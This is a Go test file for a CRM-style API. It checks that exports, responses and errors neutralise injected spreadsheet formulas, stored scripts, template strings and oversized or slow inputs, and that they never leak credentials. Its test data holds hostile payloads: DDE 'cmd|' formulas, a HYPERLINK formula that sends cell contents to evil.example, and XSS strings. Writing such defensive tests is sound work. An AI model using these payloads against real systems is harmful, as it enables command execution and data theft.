package api

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"genjin/internal/auth"
)

// TestBlankIsMissing: a text of which nothing is left when it is tidied is none, wherever one is required.
func TestBlankIsMissing(t *testing.T) {
	t.Parallel()
	_, admin := newCompany(t)
	for _, blank := range []string{" ", "\u3000", "\u0000", "\ufffd", "\u200b\t"} {
		for _, path := range []string{"/roles", "/departments", "/customers"} {
			p := into[Problem](t, admin.want(422, "POST", path, rec{"name": blank}))
			if len(p.Errors) != 1 || p.Errors[0].Key != "field.required" {
				t.Errorf("%s named %q: %+v", path, blank, p)
			}
		}
	}
}

// formulas are texts that a spreadsheet would run.
var formulas = []string{"=cmd|' /C calc'!A0", "+1+cmd|'/c calc'!A1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+9)*cmd|' /C calc'!A0", `=HYPERLINK("https://evil.example?x="&A1,"x")`, "=IMPORTXML(1,2)", "＝1+1"}

// TestFormulasLeaveAsText: what people typed runs in no file that leaves: exports of records and of the log, what is kept
// of a person, and the rows that an import refused.
func TestFormulasLeaveAsText(t *testing.T) {
	t.Parallel()
	_, admin := newImportingCompany(t)
	for _, f := range formulas {
		c := admin.make("/customers", rec{"name": f, "remark": f, "tags": []string{f[:min(len(f), 9)]}})
		admin.make("/contacts", rec{"name": f, "customer_id": c.id(), "mobile": "13912345678", "department": f})
		admin.make("/followups", rec{"customer_id": c.id(), "content": f})
	}
	contact := into[page](t, admin.want(200, "GET", "/contacts", nil)).Items[0].id()
	imp := into[Import](t, admin.upload(201, "x.csv", []byte("客户名称,联系人,备注\n,=cmd|' /C calc'!A0,@SUM(1)\n甲公司,乙,丙\n")))
	admin.want(200, "POST", "/imports/"+imp.ID.String()+"/run", nil)
	admin.until(imp.ID, "done")
	for _, path := range []string{
		"/customers/export", "/contacts/export", "/followups/export", "/log/export", "/customers/export?watermark=true",
		"/contacts/" + contact + "/personal-data", "/imports/" + imp.ID.String() + "/refused", "/customers/template",
	} {
		noFormulas(t, path, admin.want(200, "GET", path, nil).body)
	}
	for _, path := range []string{"/customers/export", "/contacts/export", "/followups/export", "/log/export"} {
		a := admin.want(200, "GET", path+"?format=csv", nil)
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(a.body, []byte("\ufeff")))).ReadAll()
		if err != nil || len(rows) < len(formulas) {
			t.Fatalf("%s: %d rows, %v", path, len(rows), err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if strings.ContainsAny(cell[:min(1, len(cell))], "=+@\t\r") || strings.HasPrefix(cell, "-2+3") || strings.HasPrefix(cell, "＝") {
					t.Errorf("%s has the cell %q", path, cell)
				}
			}
		}
	}
}

// noFormulas sees that no cell of a workbook is one, as another program reads it.
func noFormulas(t *testing.T, what string, b []byte) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	defer f.Close()
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		for r, row := range rows {
			for c := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if formula, err := f.GetCellFormula(sheet, cell); formula != "" || err != nil {
					t.Errorf("%s: %s holds the formula %q, %v", what, cell, formula, err)
				}
			}
		}
	}
	if strings.Contains(textOfWorkbook(t, b), "<f>") {
		t.Errorf("%s holds formulas", what)
	}
}

// scripts are texts that a browser would run where they were taken for markup.
var scripts = []string{`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `</script><script>alert(1)</script>`, `javascript:alert(1)`, `{{constructor.constructor('alert(1)')()}}`, "\u2028alert(1)"}

// TestStoredScriptsStayText: whatever people type comes back as they typed it, in answers that no browser takes for a page.
func TestStoredScriptsStayText(t *testing.T) {
	t.Parallel()
	_, admin := newCompany(t)
	for _, script := range scripts {
		c := admin.make("/customers", rec{"name": script + "甲", "remark": script, "tags": []string{script[:min(len(script), 20)]}})
		admin.make("/followups", rec{"customer_id": c.id(), "content": script})
		admin.make("/views", rec{"name": script[:min(len(script), 30)], "entity": "customer", "search": rec{"q": script}})
		for _, path := range []string{
			"/customers/" + c.id(), "/customers", "/customers/" + c.id() + "/timeline", "/customers/" + c.id() + "/log", "/followups", "/views", "/log", query("/search", "q", script),
			query("/customers", "q", script), "/customers/" + url.PathEscape(script), query("/customers", "sort", script), "/meta", "/directory",
		} {
			a := admin.send("GET", path, nil)
			if kind := a.Header.Get("Content-Type"); !strings.HasPrefix(kind, "application/json") && !strings.HasPrefix(kind, "application/problem+json") || a.Header.Get("X-Content-Type-Options") != "nosniff" {
				t.Errorf("%s is %q, %q", path, kind, a.Header.Get("X-Content-Type-Options"))
			}
			if csp := a.Header.Get("Content-Security-Policy"); csp == "" {
				t.Errorf("%s says not what may run", path)
			}
		}
		if got := into[rec](t, admin.want(200, "GET", "/customers/"+c.id(), nil)); got["remark"] != strings.TrimSpace(strings.ReplaceAll(script, "\u2028", "")) && got["remark"] != script {
			t.Errorf("%q came back as %q", script, got["remark"])
		}
	}
	for _, address := range []string{"javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x.y"} {
		admin.want(422, "POST", "/customers", rec{"name": "乙公司", "website": address})
	}
}

// TestParametersAreNoTemplates: what people typed is filled into sentences, and never read as one.
func TestParametersAreNoTemplates(t *testing.T) {
	t.Parallel()
	_, admin := newImportingCompany(t)
	const name = "{time}{name}{{7*7}}${7*7}<%=7*7%>%s"
	admin.want(200, "PATCH", "/me", rec{"name": name})
	admin.make("/customers", rec{"name": "苏州恒通电子有限公司"})
	f, err := excelize.OpenReader(bytes.NewReader(admin.want(200, "GET", "/customers/export?watermark=true", nil).body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(f.GetSheetName(0))
	if err != nil || !strings.Contains(rows[0][0], name) || strings.Contains(rows[0][0], "49") {
		t.Errorf("%v %v", rows[0], err)
	}
	p := into[Problem](t, admin.want(422, "POST", "/customers", rec{"name": "苏州恒通电子有限公司", "code": "X", "email_of_none": name, "{name}": "x"}))
	for _, e := range p.Errors {
		if strings.Contains(e.Message, "49") || strings.Contains(e.Message, "%!") || e.Field == "{name}" && !strings.Contains(e.Message, "{name}") {
			t.Errorf("%+v", e)
		}
	}
}

// TestNothingTypedTakesLong: no text makes reading it slow, wherever it is typed.
func TestNothingTypedTakesLong(t *testing.T) {
	t.Parallel()
	_, admin := newImportingCompany(t)
	const most = 5 * time.Second // on a machine that does other things as well
	for _, evil := range []string{
		strings.Repeat("a", 50_000) + "!", strings.Repeat("(", 5_000), strings.Repeat("1-", 20_000), strings.Repeat("甲", 20_000), strings.Repeat("有限公司", 10_000), strings.Repeat("a@", 20_000) + "b.",
		strings.Repeat("\t", 30_000) + "x", strings.Repeat("+86 138 ", 6_000), strings.Repeat("、", 20_000), strings.Repeat("年月日", 10_000), strings.Repeat("%", 30_000), strings.Repeat("\u0301", 30_000),
	} {
		values := rec{"name": evil, "code": evil, "website": evil, "remark": evil, "credit_code": evil, "tags": []string{evil}, "founded_on": evil, "region": evil}
		for what, ask := range map[string]func() answer{
			"search": func() answer { return admin.send("GET", query("/search", "q", evil), nil) },
			"list":   func() answer { return admin.send("GET", query("/customers", "q", evil), nil) },
			"filter": func() answer {
				return admin.send("GET", query("/customers", "filter", `{"field":"name","op":"contains","value":`+quoted(evil)+`}`), nil)
			},
			"create": func() answer { return admin.send("POST", "/customers", values) },
			"contact": func() answer {
				return admin.send("POST", "/contacts", rec{"name": evil, "mobile": evil, "email": evil, "birthday": evil})
			},
			"duplicates": func() answer { return admin.send("POST", "/customers/duplicates", rec{"values": values}) },
			"pasted":     func() answer { return admin.send("POST", "/imports?entity=customer", ImportPaste{evil}) },
			"codes":      func() answer { return admin.send("GET", query("/codes/gbt2260", "q", evil[:90]), nil) },
		} {
			start := time.Now()
			a := ask()
			if took := time.Since(start); took > most || a.StatusCode >= 500 {
				t.Errorf("%s of %.10q…: %d after %v", what, evil, a.StatusCode, took)
			}
		}
	}
}

func quoted(s string) string { b, _ := json.Marshal(s); return string(b) }

// endless gives figures for ever, and counts them.
type endless struct{ given atomic.Int64 }

func (e *endless) Read(b []byte) (int, error) {
	for i := range b {
		b[i] = '0'
	}
	if e.given.Add(int64(len(b))) > 200<<20 {
		return 0, io.EOF
	}
	return len(b), nil
}

// TestEndlessBodies: a request that never ends is answered when it is too large, over the network, and read no further.
func TestEndlessBodies(t *testing.T) {
	t.Parallel()
	s, admin := newImportingCompany(t)
	listening := httptest.NewServer(s.API)
	t.Cleanup(listening.Close)
	for path, kind := range map[string]string{
		"/customers": "application/json", "/session": "application/json", "/imports?entity=customer": "application/json",
		"/customers/bulk": "application/json", "/me/tokens": "application/json",
	} {
		body := &endless{}
		r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, listening.URL+Base+path, io.MultiReader(strings.NewReader(`{"name":`), body))
		if err != nil {
			t.Fatal(err)
		}
		r.Header.Set("Content-Type", kind)
		r.AddCookie(&http.Cookie{Name: auth.CookieName, Value: admin.cookie})
		res, err := http.DefaultClient.Do(r)
		if err == nil {
			res.Body.Close()
			if res.StatusCode != http.StatusRequestEntityTooLarge {
				t.Errorf("%s: %d", path, res.StatusCode)
			}
		}
		if n := body.given.Load(); n > 150<<20 { // the sender may still be at it
			t.Errorf("%s: %d bytes were read", path, n)
		}
	}
}

// TestSecretsLeaveNoDoor: what signs somebody in stands in no answer, no export and no error, whoever asks.
func TestSecretsLeaveNoDoor(t *testing.T) {
	t.Parallel()
	s, admin := newImportingCompany(t)
	made := into[TokenMade](t, admin.want(201, "POST", "/me/tokens", NewToken{Name: "x"}))
	app := into[NewTOTP](t, admin.want(200, "POST", "/me/totp", nil))
	codes := into[RecoveryCodes](t, admin.want(200, "POST", "/me/recovery", nil)).Codes
	secrets := append([]string{password, admin.cookie, made.Secret, app.Secret}, codes...)
	secrets = append(secrets, strings.Fields(s.dump("credential", "session", "api_token", "totp", "recovery_code"))...)
	me := into[Me](t, admin.want(200, "GET", "/me", nil)).ID.String()
	n := 0
	s.eachOperation(func(method, path string, op operation) {
		if method != http.MethodGet || op.OperationID == "events" { // a stream, which the permission matrix listens to
			return
		}
		for _, format := range []string{"", "?format=csv"} {
			n++
			a := admin.send(method, placeholder.ReplaceAllString(path, me)+format, nil)
			text := string(a.body) + fmt.Sprint(a.Header)
			if bytes.HasPrefix(a.body, []byte("PK")) {
				text = textOfWorkbook(t, a.body)
			}
			for _, secret := range secrets {
				if strings.Contains(text, secret) {
					t.Errorf("%s gives %.12s…", op.OperationID, secret)
				}
			}
		}
	})
	if n < 100 || len(secrets) < 12 {
		t.Errorf("%d answers, %d secrets", n, len(secrets))
	}
}
